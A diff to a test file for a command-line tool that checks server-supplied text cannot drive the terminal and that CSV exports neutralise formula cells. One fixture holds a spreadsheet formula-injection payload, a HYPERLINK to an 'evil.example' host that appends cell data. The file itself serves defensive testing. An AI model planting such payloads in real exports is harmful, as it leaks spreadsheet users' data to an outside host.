@@ -1,12 +1,14 @@
 // Trust no server (issue #10, items 1 and 7): what a hostile server says can neither drive the
 // terminal (title, clear screen, clipboard, 8-bit CSI) nor make the CLI print a secret, in any
 // human output path; json/jsonl/yaml stay exact.
-import { existsSync } from 'node:fs';
+import { existsSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
 import type { ServerResponse } from 'node:http';
 import { execa } from 'execa';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { parse as parseYaml } from 'yaml';
-import { BIN, cleanEnv, runCli, type RunOptions } from '../helpers/cli.js';
+import { BIN, cleanEnv, runCli, tempDir, type RunOptions } from '../helpers/cli.js';
 import { startHostile, type HostileServer } from '../helpers/hostile-server.js';
 
 const KEY = 'hostile-key-7c1e9a4b2d6f8e03';
@@ -119,6 +121,37 @@ describe('server text cannot drive the terminal', () => {
     const cj = await run(['mcp', 'call', 'evil_tool', '--arg', 'q=x', '--json']);
     inert(cj);
     expect(cj.stdout).toContain('\\u001b]0;pwned');
+  });
+});
+
+describe('CSV cells a spreadsheet would evaluate get a leading quote', () => {
+  const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', '+1', '-2', '@x', '=1+1'];
+
+  it('-o csv of records named like formulas; numbers stay numbers', async () => {
+    srv.route('GET /api/tags', (_q, res) => json(res, 200, { success: true, data: FORMULAS.map((name, i) => ({ _id: `t${i}`, name, usage: -i })) }));
+    const r = await run(['tags', 'list', '-o', 'csv', '--fields', '_id,name,usage']);
+    expect(r.exitCode).toBe(0);
+    expect(r.stderr).toBe('');
+    const rows = parseCsv(r.stdout) as string[][];
+    expect(rows[0]).toEqual(['_id', 'name', 'usage']);
+    expect(rows.slice(1)).toEqual(FORMULAS.map((name, i) => [`t${i}`, `'${name}`, String(-i)]));
+    expect(srv.received.map((q) => `${q.method} ${q.path}`)).toEqual(['GET /api/tags']);
+  });
+
+  it('the batch results file: an error text from the server that starts a formula', async () => {
+    srv.route('POST /api/v2/chat/messages', (_q, res) => json(res, 400, { success: false, message: FORMULAS[0] }));
+    const dir = tempDir('chatcrm-csv-');
+    const input = join(dir, 'rows.csv');
+    writeFileSync(input, 'to\n15550000001\n');
+    const results = join(dir, 'results.csv');
+    const r = await run(['chat', 'send-batch', input, '--sender', 'wa_snd_1', '--text', 'hi', '--results', results, '--json']);
+    expect(r.exitCode).toBe(5);
+    expect(JSON.parse(r.stdout)).toMatchObject({ rows: 1, failed: 1 });
+    expect(parseCsv(readFileSync(results, 'utf8'))).toEqual([
+      ['row', 'to', 'status', 'message_id', 'error'],
+      ['1', '15550000001', 'failed', '', `'${FORMULAS[0]} (HTTP 400)`],
+    ]);
+    expect(srv.received.filter((q) => q.method === 'POST').map((q) => `${q.path} ${q.body}`)).toEqual(['/api/v2/chat/messages {"sender_id":"wa_snd_1","to":"15550000001","message":{"type":"text","text":{"body":"hi"}}}']);
   });
 });
 
